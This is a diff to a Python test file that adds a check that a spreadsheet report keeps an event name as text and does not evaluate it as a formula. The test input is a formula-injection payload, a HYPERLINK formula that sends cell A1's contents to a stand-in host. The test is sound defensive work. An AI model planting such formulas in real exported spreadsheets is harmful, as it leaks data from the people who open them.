@@ -83,6 +83,18 @@ def test_report_xlsx_keeps_machine_values(make_plan, tmp_path):
     assert {row[action_column] for row in capacity[1:]} == {"add", "watch", "ok"}
 
 
+def test_report_xlsx_formula_stays_text(make_plan, tmp_path):
+    name = '=HYPERLINK("http://example.invalid/?"&A1,"Click")'
+    folder = write_report(make_plan(event_name=name), tmp_path, with_pdf=False)
+    workbook = openpyxl.load_workbook(folder / "report.xlsx")
+    events = workbook["events"]
+    name_column = [cell.value for cell in events[1]].index("name") + 1
+    cell = events.cell(row=2, column=name_column)
+
+    assert cell.value == name
+    assert cell.data_type == "s"
+
+
 def test_quality_table_one_row_per_table(make_plan):
     plan = make_plan()
     table = quality_table(plan)
